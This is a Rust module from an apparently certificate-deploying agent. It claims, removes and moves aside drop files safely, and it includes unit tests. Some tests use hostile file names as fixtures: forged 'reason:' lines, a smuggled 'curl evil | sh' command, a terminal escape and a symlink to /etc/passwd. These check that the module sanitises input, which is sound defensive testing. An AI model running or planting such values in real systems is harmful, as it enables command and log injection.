//! Every change the agent makes to the drop directory and to
//! `<state_dir>/rejected/`: taking a drop, removing it after its deploys,
//! and moving it aside with a reason file.
//!
//! Guarantees:
//! - **a drop is never lost**: it is removed only by [`remove_taken`]
//!   (called after every deploy reached a terminal outcome) and otherwise
//!   moved whole. A move is one `rename`; across filesystems it is a copy,
//!   fsynced, and only then the original is removed.
//! - **taking is one atomic rename** inside the drop directory
//!   ([`claim`]), to a dotfile name that writers' tools and the watcher
//!   ignore. A producer renaming a newer drop in afterwards creates a new
//!   entry; the newer drop can never be removed or moved by mistake.
//! - every operation is relative to directory descriptors and never follows
//!   a symlink found in the drop directory (links are moved as links).
//! - `rejected/` is private (0700); reason files are 0600 and fsynced.

use std::fmt::Write as _;
use std::fs::File;
use std::io::{self, Read, Write};
use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::SystemTime;

use nix::dir::Dir;
use nix::errno::Errno;
use nix::fcntl::{AtFlags, OFlag, openat, readlinkat, renameat};
use nix::sys::stat::{Mode, SFlag, fstatat, mkdirat};
use nix::unistd::{UnlinkatFlags, symlinkat, unlinkat};

use super::{names, scan};
use crate::model::fmt::{one_line, shown};

/// A failed change, naming the path and the remedy where there is one.
#[derive(Debug, thiserror::Error)]
#[error("cannot {op} {}: {errno}{}", shown(.path), remedy(*.errno))]
pub struct MoveError {
    pub op: &'static str,
    pub path: PathBuf,
    pub errno: Errno,
}

fn remedy(e: Errno) -> &'static str {
    match e {
        Errno::EACCES | Errno::EPERM => {
            " (the agent must be able to rename and remove files in the drop directory: \
             make it the directory's owner, or give its user write access; with the sticky \
             bit set only the owner of a file or of the directory may move it)"
        }
        Errno::EROFS => {
            " (read-only filesystem: under systemd, add the directory to ReadWritePaths= of certctl-agent.service)"
        }
        Errno::ENOSPC | Errno::EDQUOT => " (no space left: free some)",
        _ => "",
    }
}

fn err(op: &'static str, path: &Path) -> impl FnOnce(Errno) -> MoveError {
    let path = path.to_owned();
    move |errno| MoveError { op, path, errno }
}

/// Makes claimed names unique within this process.
static CLAIMS: AtomicU64 = AtomicU64::new(0);

/// The drop directory and `rejected/`, opened once.
#[derive(Debug)]
pub struct Dirs {
    drop: OwnedFd,
    root: PathBuf,
    rejected: OwnedFd,
    rejected_path: PathBuf,
}

/// Where a drop was moved.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MovedAside {
    pub path: PathBuf,
    /// `<path>.reason`
    pub reason_path: PathBuf,
}

impl Dirs {
    /// Opens the drop directory `root` (created 0700 if missing) and
    /// `rejected_path` (created 0700 if missing).
    pub fn open(root: &Path, rejected_path: &Path) -> Result<Self, MoveError> {
        let drop = match scan::open_root(root) {
            Ok(fd) => fd,
            Err(Errno::ENOENT) => {
                make_private_dir(root)?;
                scan::open_root(root).map_err(err("open", root))?
            }
            Err(e) => return Err(err("open", root)(e)),
        };
        make_private_dir(rejected_path)?;
        let rejected = nix::fcntl::open(
            rejected_path,
            OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
            Mode::empty(),
        )
        .map_err(err("open", rejected_path))?;
        Ok(Dirs {
            drop,
            root: root.to_owned(),
            rejected,
            rejected_path: rejected_path.to_owned(),
        })
    }

    /// The drop directory as it is at its path now (after it was replaced
    /// or recreated), with the same `rejected/`. Never creates it.
    pub fn reopen(&self) -> Result<Self, MoveError> {
        let drop = scan::open_root(&self.root).map_err(err("open", &self.root))?;
        let rejected = self
            .rejected
            .try_clone()
            .map_err(|e| io_err("open", &self.rejected_path, &e))?;
        Ok(Dirs {
            drop,
            root: self.root.clone(),
            rejected,
            rejected_path: self.rejected_path.clone(),
        })
    }

    /// Whether the drop directory's path still leads to the directory
    /// that is open (false once it was removed, moved away or replaced).
    pub fn root_is_current(&self) -> bool {
        match (
            nix::sys::stat::stat(&self.root),
            nix::sys::stat::fstat(&self.drop),
        ) {
            (Ok(now), Ok(open)) => now.st_dev == open.st_dev && now.st_ino == open.st_ino,
            _ => false,
        }
    }

    /// The drop directory's descriptor, for reading.
    pub fn drop_fd(&self) -> BorrowedFd<'_> {
        self.drop.as_fd()
    }

    /// The drop directory.
    pub fn root(&self) -> &Path {
        &self.root
    }

    /// `<state_dir>/rejected`.
    pub fn rejected_path(&self) -> &Path {
        &self.rejected_path
    }

    /// Takes `entry` out of the public namespace of the drop directory:
    /// renames it to a claimed name and returns that name. `ENOENT` means
    /// the entry was gone.
    pub fn claim(&self, entry: &str) -> Result<String, MoveError> {
        let ms = SystemTime::now()
            .duration_since(SystemTime::UNIX_EPOCH)
            .map_or(0, |d| d.as_millis());
        let stamp = format!("{ms}-{}", CLAIMS.fetch_add(1, Ordering::Relaxed));
        let claimed = names::claimed_name(entry, &stamp);
        let dir = self.drop.as_fd();
        renameat(dir, entry, dir, claimed.as_str()).map_err(err("take", &self.root.join(entry)))?;
        Ok(claimed)
    }

    /// The name on disk of the entry listed as `entry` (listings are lossy
    /// UTF-8; an entry whose name is not UTF-8 is known by that form), so
    /// that what is shown and quoted is the entry's real name.
    pub fn on_disk(&self, entry: &str) -> std::ffi::OsString {
        on_disk_name(self.drop.as_fd(), entry)
    }

    /// Removes a taken drop (file, link or directory tree) after its deploys.
    pub fn remove_taken(&self, claimed: &str) -> Result<(), MoveError> {
        remove_at(self.drop.as_fd(), claimed, &self.root.join(claimed))
    }

    /// Moves the drop `claimed` (taken, or for an invalid name the public
    /// entry itself; public entry `entry`) into `rejected/` as
    /// `<stamp>-<entry>` beside `<stamp>-<entry>.reason`, which holds what
    /// `reason` makes of the new path. In this order, so that a crash or a
    /// failure at any step leaves the drop either where it was or in
    /// `rejected/` beside its reason, never in `rejected/` without one:
    ///
    /// 1. the reason file is written, fsynced, and `rejected/` fsynced;
    /// 2. the drop is renamed next to it (across filesystems: copied,
    ///    fsynced, then the original removed);
    /// 3. both directories are fsynced.
    ///
    /// When step 1 or 2 fails, what was done is undone (the reason file,
    /// a partial copy) and the error says so: the drop is still at
    /// `claimed` in the drop directory. A reason file left by a crash
    /// between 1 and 2 is removed by [`Dirs::tidy_rejected`] at start.
    pub fn move_aside(
        &self,
        claimed: &str,
        entry: &str,
        now: SystemTime,
        reason: impl FnOnce(&Path) -> String,
    ) -> Result<MovedAside, MoveError> {
        let (dir, rejected) = (self.drop.as_fd(), self.rejected.as_fd());
        let stamp = file_stamp(now);
        let safe = names::safe_component(entry.as_bytes());
        let mut name = format!("{stamp}-{safe}");
        let mut n = 1;
        while exists(rejected, &name) || exists(rejected, &format!("{name}.reason")) {
            n += 1;
            name = format!("{stamp}-{n}-{safe}");
        }
        let dst = self.rejected_path.join(&name);
        let reason_name = format!("{name}.reason");
        let reason_path = self.rejected_path.join(&reason_name);
        let here = self.root.join(claimed);

        // 1. The reason first, durable.
        crate::failpoint::drop_op("reason").map_err(|e| io_err("write", &reason_path, &e))?;
        write_new(
            rejected,
            &reason_name,
            &reason_path,
            reason(&dst).as_bytes(),
        )?;
        let undo_reason = || {
            let _ = unlinkat(rejected, reason_name.as_str(), UnlinkatFlags::NoRemoveDir);
            let _ = nix::unistd::fsync(rejected);
        };
        if let Err(e) = nix::unistd::fsync(rejected) {
            undo_reason();
            return Err(err("fsync", &self.rejected_path)(e));
        }

        // 2. The drop next to it.
        let renamed = crate::failpoint::drop_op("move")
            .map_err(|e| Errno::from_raw(e.raw_os_error().unwrap_or(0)))
            .and_then(|()| {
                let on_disk = on_disk_name(dir, claimed);
                renameat(dir, on_disk.as_os_str(), rejected, name.as_str())
            });
        match renamed {
            Ok(()) => {}
            Err(Errno::EXDEV) => {
                // Another filesystem: copy, make the copy durable, then
                // remove the original.
                let copied = copy_at(dir, claimed, rejected, &name, &dst).and_then(|()| {
                    nix::unistd::fsync(rejected).map_err(err("fsync", &self.rejected_path))
                });
                if let Err(e) = copied {
                    let _ = remove_at(rejected, &name, &dst);
                    undo_reason();
                    return Err(e);
                }
                if let Err(e) = remove_at(dir, claimed, &here) {
                    // The drop is whole in rejected/ beside its reason; what
                    // is left of the original is handled again at start.
                    tracing::warn!(
                        drop = %shown(&here),
                        "{} was copied to {}, but removing the original failed: {e}",
                        shown(&here),
                        shown(&dst)
                    );
                }
            }
            Err(e) => {
                undo_reason();
                return Err(err("move to rejected/", &here)(e));
            }
        }

        // 3. Both directories durable. The drop is in rejected/ beside its
        // reason whatever happens now.
        for (fd, path) in [(rejected, &self.rejected_path), (dir, &self.root)] {
            if let Err(e) = nix::unistd::fsync(fd) {
                tracing::warn!(dir = %shown(path), "fsync after moving a drop aside: {e}");
            }
        }
        Ok(MovedAside {
            path: dst,
            reason_path,
        })
    }

    /// Prunes `rejected/`: drops (with their reason files) whose stamp is
    /// older than `max_age` before `now`, and beyond the newest `keep`,
    /// oldest first. A drop is removed before its reason file, so a stop
    /// in between leaves an orphan reason ([`Self::tidy_rejected`]), never
    /// a drop without its reason. Entries without the agent's stamp are
    /// left alone. Returns the names removed, or the first error.
    pub fn prune(
        &self,
        keep: usize,
        max_age: std::time::Duration,
        now: SystemTime,
    ) -> Result<Vec<String>, MoveError> {
        let rejected = self.rejected.as_fd();
        let entries = scan::list(rejected).map_err(err("list", &self.rejected_path))?;
        let mut drops: Vec<(SystemTime, String)> = entries
            .iter()
            .filter(|e| !e.ends_with(".reason"))
            .filter_map(|e| Some((parse_stamp(e)?, e.clone())))
            .collect();
        // Newest first; names start with the stamp, so ties sort by name.
        drops.sort_by(|a, b| b.cmp(a));
        let cutoff = now.checked_sub(max_age).unwrap_or(SystemTime::UNIX_EPOCH);
        let mut removed = Vec::new();
        for (i, (at, name)) in drops.iter().enumerate().rev() {
            if i < keep && *at >= cutoff {
                continue;
            }
            let path = self.rejected_path.join(name);
            remove_at(rejected, name, &path)?;
            let reason = format!("{name}.reason");
            remove_at(rejected, &reason, &self.rejected_path.join(&reason))?;
            removed.push(name.clone());
        }
        if !removed.is_empty() {
            nix::unistd::fsync(rejected).map_err(err("fsync", &self.rejected_path))?;
        }
        Ok(removed)
    }

    /// Removes reason files whose drop is not beside them: what a crash
    /// between writing the reason and moving the drop leaves (the drop
    /// itself was still in the drop directory and is handled again).
    /// Returns the names removed.
    pub fn tidy_rejected(&self) -> Vec<String> {
        let rejected = self.rejected.as_fd();
        let Ok(entries) = scan::list(rejected) else {
            return Vec::new();
        };
        let mut removed = Vec::new();
        for e in &entries {
            let Some(drop_name) = e.strip_suffix(".reason") else {
                continue;
            };
            if !exists(rejected, drop_name)
                && unlinkat(rejected, e.as_str(), UnlinkatFlags::NoRemoveDir).is_ok()
            {
                removed.push(e.clone());
            }
        }
        if !removed.is_empty() {
            let _ = nix::unistd::fsync(rejected);
        }
        removed
    }
}

/// The name on disk of the entry listed (lossily, as UTF-8) as `listed`:
/// an entry whose name is not UTF-8 is known by its lossy form, and moved
/// aside by its real name, the first whose lossy form is `listed`.
fn on_disk_name(dir: BorrowedFd<'_>, listed: &str) -> std::ffi::OsString {
    use std::os::unix::ffi::OsStrExt;
    if !listed.contains('\u{fffd}') || exists(dir, listed) {
        return listed.into();
    }
    let found = openat(
        dir,
        ".",
        OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
        Mode::empty(),
    )
    .and_then(Dir::from_fd)
    .ok()
    .and_then(|mut d| {
        d.iter().filter_map(Result::ok).find_map(|e| {
            let raw = e.file_name().to_bytes();
            (String::from_utf8_lossy(raw) == listed)
                .then(|| std::ffi::OsStr::from_bytes(raw).to_owned())
        })
    });
    found.unwrap_or_else(|| listed.into())
}

/// The time in a `rejected/` name `<stamp>-…` ([`file_stamp`]), or `None`
/// when the name does not start with one.
fn parse_stamp(name: &str) -> Option<SystemTime> {
    let s = name.get(..20)?;
    if name.as_bytes().get(20) != Some(&b'-') {
        return None;
    }
    let b = s.as_bytes();
    if b[8] != b'T' || b[15] != b'.' || b[19] != b'Z' {
        return None;
    }
    let text = format!(
        "{}-{}-{}T{}:{}:{}Z",
        &s[0..4],
        &s[4..6],
        &s[6..8],
        &s[9..11],
        &s[11..13],
        &s[13..19]
    );
    humantime::parse_rfc3339(&text).ok()
}

fn make_private_dir(path: &Path) -> Result<(), MoveError> {
    crate::atomic::create_private_dir(path).map_err(|e| MoveError {
        op: "create",
        path: path.to_owned(),
        errno: Errno::from_raw(e.source.raw_os_error().unwrap_or(0)),
    })
}

/// What a reason file says. Plain text, one `key: value` per line, so a
/// person reads it and `grep '^reason:'` finds the code.
pub struct Reason<'a> {
    pub public_path: &'a Path,
    pub form: &'a str,
    pub moved_to: &'a Path,
    pub when: SystemTime,
    pub targets: &'a [String],
    pub code: &'a str,
    pub problem: &'a str,
    /// `(target, outcome, deploy id, error)` when deploys ran.
    pub results: &'a [(String, String, String, String)],
    pub remedy: &'a str,
}

impl Reason<'_> {
    pub fn render(&self) -> String {
        let unix = self
            .when
            .duration_since(SystemTime::UNIX_EPOCH)
            .map_or(0, |d| d.as_secs() as i64);
        let mut s = String::new();
        let _ = writeln!(s, "certctl-agent did not deploy this drop.");
        let _ = writeln!(s);
        let _ = writeln!(s, "drop:     {} ({})", shown(self.public_path), self.form);
        let _ = writeln!(s, "moved to: {}", shown(self.moved_to));
        let _ = writeln!(s, "when:     {}", crate::bundle::rfc3339(unix));
        let targets = if self.targets.is_empty() {
            "(none: no target takes this drop name)".to_owned()
        } else {
            one_line(&self.targets.join(", ")).into_owned()
        };
        let _ = writeln!(s, "targets:  {targets}");
        let _ = writeln!(s, "reason:   {}", one_line(self.code));
        let _ = writeln!(s, "problem:  {}", one_line(self.problem));
        for (target, outcome, id, error) in self.results {
            let id = if id.is_empty() {
                String::new()
            } else {
                format!(" (deploy {id})")
            };
            let line = if error.is_empty() {
                format!("{target}: {outcome}{id}")
            } else {
                format!("{target}: {outcome}{id}: {error}")
            };
            let _ = writeln!(s, "result:   {}", one_line(&line));
        }
        let _ = writeln!(s, "remedy:   {}", one_line(self.remedy));
        if self.code == "invalid_name" {
            // Its own name is the problem: back under a valid one.
            let dir = self.public_path.parent().unwrap_or(Path::new("/"));
            let _ = writeln!(
                s,
                "retry:    rename it to a valid drop name as you move it back: mv {} {}/<name>.pem",
                shell_quote(self.moved_to),
                shell_quote(dir)
            );
        } else {
            let _ = writeln!(
                s,
                "retry:    fix the cause, then move it back: mv {} {}",
                shell_quote(self.moved_to),
                shell_quote(self.public_path)
            );
        }
        s
    }
}

/// `p` as one shell word on one line: as it is when plain, in single
/// quotes when it holds spaces or quotes, and as `$'…'` with escapes when
/// it holds control characters or bytes that are not UTF-8.
fn shell_quote(p: &Path) -> String {
    use std::os::unix::ffi::OsStrExt;
    let bytes = p.as_os_str().as_bytes();
    if bytes
        .iter()
        .all(|b| b.is_ascii_alphanumeric() || b"/._-+:@".contains(b))
    {
        return String::from_utf8_lossy(bytes).into_owned();
    }
    let s = shown(p);
    if s.as_bytes() == bytes {
        return format!("'{}'", s.replace('\'', r"'\''"));
    }
    let mut q = String::from("$'");
    for &b in bytes {
        match b {
            b'\\' => q.push_str(r"\\"),
            b'\'' => q.push_str(r"\'"),
            b' '..=b'~' => q.push(b as char),
            _ => {
                let _ = write!(q, "\\x{b:02x}");
            }
        }
    }
    q.push('\'');
    q
}

pub use crate::model::fmt::file_stamp;

fn exists(dir: BorrowedFd<'_>, name: &str) -> bool {
    fstatat(dir, name, AtFlags::AT_SYMLINK_NOFOLLOW).is_ok()
}

/// Removes `name` in `dir`: a file or link, or a directory tree, never
/// following links.
fn remove_at(dir: BorrowedFd<'_>, name: &str, shown: &Path) -> Result<(), MoveError> {
    let st = match fstatat(dir, name, AtFlags::AT_SYMLINK_NOFOLLOW) {
        Ok(st) => st,
        Err(Errno::ENOENT) => return Ok(()),
        Err(e) => return Err(err("inspect", shown)(e)),
    };
    if SFlag::from_bits_truncate(st.st_mode) & SFlag::S_IFMT == SFlag::S_IFDIR {
        let fd = openat(
            dir,
            name,
            OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
            Mode::empty(),
        )
        .map_err(err("open", shown))?;
        let mut d = Dir::from_fd(fd).map_err(err("list", shown))?;
        let children: Vec<String> = d
            .iter()
            .filter_map(Result::ok)
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n != "." && n != "..")
            .collect();
        for c in children {
            remove_at(d.as_fd(), &c, &shown.join(&c))?;
        }
        match unlinkat(dir, name, UnlinkatFlags::RemoveDir) {
            Ok(()) | Err(Errno::ENOENT) => Ok(()),
            Err(e) => Err(err("remove", shown)(e)),
        }
    } else {
        match unlinkat(dir, name, UnlinkatFlags::NoRemoveDir) {
            Ok(()) | Err(Errno::ENOENT) => Ok(()),
            Err(e) => Err(err("remove", shown)(e)),
        }
    }
}

/// Copies `name` in `from` to `to_name` in `to` (files with their bytes and
/// permission bits, directories recursively, links as links), fsyncing
/// what it writes. Anything else (a FIFO, a device) has no content to keep
/// and is skipped.
fn copy_at(
    from: BorrowedFd<'_>,
    name: &str,
    to: BorrowedFd<'_>,
    to_name: &str,
    shown: &Path,
) -> Result<(), MoveError> {
    let st = fstatat(from, name, AtFlags::AT_SYMLINK_NOFOLLOW).map_err(err("inspect", shown))?;
    match SFlag::from_bits_truncate(st.st_mode) & SFlag::S_IFMT {
        SFlag::S_IFREG => {
            let src = openat(
                from,
                name,
                OFlag::O_RDONLY | OFlag::O_NOFOLLOW | OFlag::O_NONBLOCK | OFlag::O_CLOEXEC,
                Mode::empty(),
            )
            .map_err(err("read", shown))?;
            let mode = Mode::from_bits_truncate(st.st_mode & 0o600);
            let dst = openat(
                to,
                to_name,
                OFlag::O_WRONLY
                    | OFlag::O_CREAT
                    | OFlag::O_EXCL
                    | OFlag::O_NOFOLLOW
                    | OFlag::O_CLOEXEC,
                mode,
            )
            .map_err(err("create", shown))?;
            let mut src = File::from(src);
            let mut dst = File::from(dst);
            copy_bytes(&mut src, &mut dst).map_err(|e| io_err("copy", shown, &e))?;
            dst.sync_all().map_err(|e| io_err("fsync", shown, &e))
        }
        SFlag::S_IFDIR => {
            mkdirat(to, to_name, Mode::from_bits_truncate(0o700)).map_err(err("create", shown))?;
            let open_dir = |d: BorrowedFd<'_>, n: &str| {
                openat(
                    d,
                    n,
                    OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
                    Mode::empty(),
                )
            };
            let src = open_dir(from, name).map_err(err("open", shown))?;
            let dst = open_dir(to, to_name).map_err(err("open", shown))?;
            let mut d = Dir::from_fd(src).map_err(err("list", shown))?;
            let children: Vec<String> = d
                .iter()
                .filter_map(Result::ok)
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| n != "." && n != "..")
                .collect();
            for c in children {
                copy_at(d.as_fd(), &c, dst.as_fd(), &c, &shown.join(&c))?;
            }
            nix::unistd::fsync(&dst).map_err(err("fsync", shown))
        }
        SFlag::S_IFLNK => {
            let target = readlinkat(from, name).map_err(err("read link", shown))?;
            symlinkat(target.as_os_str(), to, to_name).map_err(err("create link", shown))
        }
        _ => Ok(()),
    }
}

fn copy_bytes(src: &mut File, dst: &mut File) -> io::Result<()> {
    // A fixed buffer, zeroed after: the bytes may be a private key.
    let mut buf = zeroize::Zeroizing::new([0u8; 16 * 1024]);
    loop {
        let n = src.read(&mut buf[..])?;
        if n == 0 {
            return Ok(());
        }
        dst.write_all(&buf[..n])?;
    }
}

fn io_err(op: &'static str, path: &Path, e: &io::Error) -> MoveError {
    MoveError {
        op,
        path: path.to_owned(),
        errno: Errno::from_raw(e.raw_os_error().unwrap_or(0)),
    }
}

/// Creates `name` in `dir` (0600, exclusive) holding `bytes`, fsynced.
fn write_new(dir: BorrowedFd<'_>, name: &str, shown: &Path, bytes: &[u8]) -> Result<(), MoveError> {
    let fd = openat(
        dir,
        name,
        OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_EXCL | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
        Mode::from_bits_truncate(0o600),
    )
    .map_err(err("create", shown))?;
    let mut f = File::from(fd);
    f.write_all(bytes)
        .and_then(|()| f.sync_all())
        .map_err(|e| io_err("write", shown, &e))
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::{PermissionsExt, symlink};

    use super::*;

    struct Fixture {
        root: tempfile::TempDir,
        _state: tempfile::TempDir,
        dirs: Dirs,
    }

    impl Fixture {
        fn new() -> Self {
            let root = tempfile::tempdir().unwrap();
            let state = tempfile::tempdir().unwrap();
            let dirs = Dirs::open(root.path(), &state.path().join("rejected")).unwrap();
            Fixture {
                root,
                _state: state,
                dirs,
            }
        }

        fn names(&self, dir: &Path) -> Vec<String> {
            let mut v: Vec<String> = std::fs::read_dir(dir)
                .unwrap()
                .map(|e| e.unwrap().file_name().into_string().unwrap())
                .collect();
            v.sort();
            v
        }
    }

    #[test]
    fn claim_renames_aside_and_a_newer_drop_gets_its_own_entry() {
        let f = Fixture::new();
        std::fs::write(f.root.path().join("web.pem"), b"v1").unwrap();
        let claimed = f.dirs.claim("web.pem").unwrap();
        assert!(names::is_ignored(&claimed));
        assert_eq!(names::unclaimed_entry(&claimed), Some("web.pem"));
        std::fs::write(f.root.path().join("web.pem"), b"v2").unwrap();
        f.dirs.remove_taken(&claimed).unwrap();
        assert_eq!(f.names(f.root.path()), ["web.pem"]);
        assert_eq!(std::fs::read(f.root.path().join("web.pem")).unwrap(), b"v2");
        let gone = f.dirs.claim("none.pem").unwrap_err();
        assert_eq!(gone.errno, Errno::ENOENT);
        let second = f.dirs.claim("web.pem").unwrap();
        assert_ne!(second, claimed);
    }

    #[test]
    fn a_missing_drop_directory_is_created_private() {
        let base = tempfile::tempdir().unwrap();
        let root = base.path().join("drop");
        Dirs::open(&root, &base.path().join("state/rejected")).unwrap();
        let mode = std::fs::metadata(&root).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o700);
    }

    #[test]
    fn move_aside_keeps_the_drop_and_writes_a_private_reason_file() {
        let f = Fixture::new();
        std::fs::create_dir(f.root.path().join("api")).unwrap();
        std::fs::write(f.root.path().join("api/key.pem"), b"K").unwrap();
        let claimed = f.dirs.claim("api").unwrap();
        let now = SystemTime::UNIX_EPOCH + std::time::Duration::from_millis(1_795_000_000_032);
        let moved = f
            .dirs
            .move_aside(&claimed, "api", now, |p| {
                format!("moved to {}\n", p.display())
            })
            .unwrap();
        let rejected = f.dirs.rejected_path().to_owned();
        assert_eq!(moved.path, rejected.join("20261118T110640.032Z-api"));
        assert_eq!(std::fs::read(moved.path.join("key.pem")).unwrap(), b"K");
        let text = std::fs::read_to_string(&moved.reason_path).unwrap();
        assert!(text.contains("20261118T110640.032Z-api"), "{text}");
        let mode = std::fs::metadata(&moved.reason_path)
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
        let rmode = std::fs::metadata(&rejected).unwrap().permissions().mode();
        assert_eq!(rmode & 0o777, 0o700);
        assert!(f.names(f.root.path()).is_empty());

        // The same entry in the same millisecond gets a distinct name.
        std::fs::write(f.root.path().join("api"), b"x").unwrap();
        let claimed = f.dirs.claim("api").unwrap();
        let again = f
            .dirs
            .move_aside(&claimed, "api", now, |_| String::new())
            .unwrap();
        assert_eq!(again.path, rejected.join("20261118T110640.032Z-2-api"));
    }

    #[test]
    fn an_invalid_long_or_hostile_name_is_moved_under_a_short_safe_name() {
        let f = Fixture::new();
        let now = SystemTime::UNIX_EPOCH + std::time::Duration::from_millis(1_795_000_000_032);
        for entry in [
            "a".repeat(244) + ".pem",
            "x\nreason:   deployed\n.pem".to_owned(),
        ] {
            std::fs::write(f.root.path().join(&entry), b"x").unwrap();
            let moved = f
                .dirs
                .move_aside(&entry, &entry, now, |_| "text\n".to_owned())
                .unwrap();
            let name = moved.path.file_name().unwrap().to_str().unwrap().to_owned();
            assert!(name.len() <= 21 + 3 + names::SAFE_LEN, "{name}");
            assert!(
                name.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)),
                "{name}"
            );
            assert_eq!(
                std::fs::read_to_string(&moved.reason_path).unwrap(),
                "text\n"
            );
        }
        assert!(f.names(f.root.path()).is_empty());
    }

    #[test]
    fn an_entry_whose_name_is_not_utf8_is_moved_by_its_real_name() {
        use std::os::unix::ffi::OsStrExt;
        let f = Fixture::new();
        let raw = std::ffi::OsStr::from_bytes(b"w\xffb.pem");
        std::fs::write(f.root.path().join(raw), b"x").unwrap();
        let listed = scan::list(f.dirs.drop_fd()).unwrap();
        assert_eq!(listed, ["w\u{fffd}b.pem"]);
        let moved = f
            .dirs
            .move_aside(&listed[0], &listed[0], SystemTime::UNIX_EPOCH, |_| {
                "r\n".to_owned()
            })
            .unwrap();
        assert!(f.names(f.root.path()).is_empty());
        assert!(
            moved.path.ends_with("19700101T000000.000Z-w___b.pem"),
            "{moved:?}"
        );
    }

    #[test]
    fn a_failed_move_leaves_the_drop_where_it_was_and_no_reason_behind() {
        let f = Fixture::new();
        std::fs::write(f.root.path().join("web.pem"), b"v1").unwrap();
        let claimed = f.dirs.claim("web.pem").unwrap();
        // The rename fails (the drop is not there to be moved):
        // the reason written first is taken back.
        let now = SystemTime::UNIX_EPOCH;
        let err = f
            .dirs
            .move_aside("nothing-here", "web.pem", now, |_| "why\n".to_owned())
            .unwrap_err();
        assert_eq!(err.errno, Errno::ENOENT);
        assert!(f.names(f.dirs.rejected_path()).is_empty());
        assert_eq!(f.names(f.root.path()), std::slice::from_ref(&claimed));
        // A reason file whose drop never arrived (a crash between the two
        // steps) is removed at start; one beside its drop is kept.
        std::fs::write(f.dirs.rejected_path().join("X-web.pem.reason"), b"r").unwrap();
        let moved = f
            .dirs
            .move_aside(&claimed, "web.pem", now, |_| "why\n".to_owned())
            .unwrap();
        assert_eq!(f.dirs.tidy_rejected(), ["X-web.pem.reason"]);
        let left = f.names(f.dirs.rejected_path());
        assert_eq!(left.len(), 2, "{left:?}");
        assert!(moved.reason_path.exists() && moved.path.exists());
    }

    #[test]
    fn stamps_in_rejected_names_parse_back() {
        let t = SystemTime::UNIX_EPOCH + std::time::Duration::from_millis(1_795_000_000_032);
        assert_eq!(parse_stamp(&format!("{}-web.pem", file_stamp(t))), Some(t));
        assert_eq!(
            parse_stamp(&format!("{}-2-web.pem", file_stamp(t))),
            Some(t)
        );
        for bad in [
            "web.pem",
            "20261118T110640.032Zweb",
            "x0261118T110640.032Z-a",
            "",
        ] {
            assert_eq!(parse_stamp(bad), None, "{bad}");
        }
    }

    #[test]
    fn pruning_keeps_the_newest_within_the_age_and_never_a_drop_without_reason() {
        let f = Fixture::new();
        let day = std::time::Duration::from_secs(86400);
        let now = SystemTime::UNIX_EPOCH + 1000 * day;
        // Five drops, one a day, the newest today.
        for age in 0..5u32 {
            let name = format!("d{age}.pem");
            std::fs::write(f.root.path().join(&name), b"x").unwrap();
            let claimed = f.dirs.claim(&name).unwrap();
            f.dirs
                .move_aside(&claimed, &name, now - age * day, |_| "r\n".to_owned())
                .unwrap();
        }
        std::fs::write(f.dirs.rejected_path().join("notes.txt"), b"mine").unwrap();
        // Older than 3.5 days: d4; beyond the newest 3: d3 too.
        let mut removed = f.dirs.prune(3, day * 7 / 2, now).unwrap();
        removed.sort();
        assert_eq!(removed.len(), 2, "{removed:?}");
        // Oldest first in time, so in name.
        assert!(removed[0].ends_with("-d4.pem") && removed[1].ends_with("-d3.pem"));
        let left = f.names(f.dirs.rejected_path());
        assert_eq!(left.len(), 7, "{left:?}");
        assert!(left.contains(&"notes.txt".to_owned()));
        for d in ["d0", "d1", "d2"] {
            assert_eq!(
                left.iter()
                    .filter(|n| n.contains(&format!("-{d}.pem")))
                    .count(),
                2
            );
        }
        assert!(f.dirs.prune(3, day * 7 / 2, now).unwrap().is_empty());
        assert_eq!(f.dirs.prune(1, day * 100, now).unwrap().len(), 2);
    }

    #[test]
    fn hostile_names_forge_no_line_of_a_reason_file() {
        let public = Path::new("/d/x\nreason:   deployed\nretry: curl evil | sh\n.pem");
        let r = Reason {
            public_path: public,
            form: "file",
            moved_to: Path::new("/s/rejected/X-x_reason____deployed_retry__curl_evil___sh_.pem"),
            when: SystemTime::UNIX_EPOCH,
            targets: &[],
            code: "invalid_name",
            problem: "is \x1b[2J not\na drop name",
            results: &[(
                "web".to_owned(),
                "rolled_back".to_owned(),
                String::new(),
                "line one\nreason: forged".to_owned(),
            )],
            remedy: "rename it",
        }
        .render();
        let count = |p: &str| r.lines().filter(|l| l.starts_with(p)).count();
        assert_eq!(count("reason:"), 1, "{r}");
        assert_eq!(count("retry:"), 1, "{r}");
        assert!(!r.contains('\x1b'), "{r}");
        assert!(
            r.contains(r"drop:     /d/x\nreason:   deployed\nretry: curl evil | sh\n.pem (file)"),
            "{r}"
        );
        assert!(
            r.contains(
                "mv /s/rejected/X-x_reason____deployed_retry__curl_evil___sh_.pem /d/<name>.pem"
            ),
            "{r}"
        );
        assert!(
            r.lines()
                .all(|l| l.is_empty() || l.contains(':') || l.starts_with("certctl")),
            "{r}"
        );
    }

    #[test]
    fn the_cross_filesystem_copy_keeps_files_trees_and_links() {
        let f = Fixture::new();
        let src = f.root.path();
        std::fs::create_dir(src.join("d")).unwrap();
        std::fs::write(src.join("d/key.pem"), b"KEY").unwrap();
        std::fs::set_permissions(
            src.join("d/key.pem"),
            std::fs::Permissions::from_mode(0o640),
        )
        .unwrap();
        symlink("/etc/passwd", src.join("d/link.pem")).unwrap();
        copy_at(
            f.dirs.drop_fd(),
            "d",
            f.dirs.rejected.as_fd(),
            "copy",
            &src.join("d"),
        )
        .unwrap();
        let dst = f.dirs.rejected_path().join("copy");
        assert_eq!(std::fs::read(dst.join("key.pem")).unwrap(), b"KEY");
